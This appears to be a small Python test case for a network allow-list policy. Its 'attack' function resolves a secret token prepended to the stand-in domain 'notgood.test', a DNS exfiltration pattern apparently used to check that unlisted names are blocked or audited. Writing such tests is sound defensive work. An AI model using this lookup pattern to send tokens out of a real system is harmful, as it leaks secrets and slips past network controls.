"""A name that ends alike
Asks for notgood.test, which no star of the list means.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""
import socket


def attack(at):
    try:
        socket.getaddrinfo(at.token.decode() + '.notgood.test', 80)
    except socket.gaierror:
        at.note('no such name')
    return True
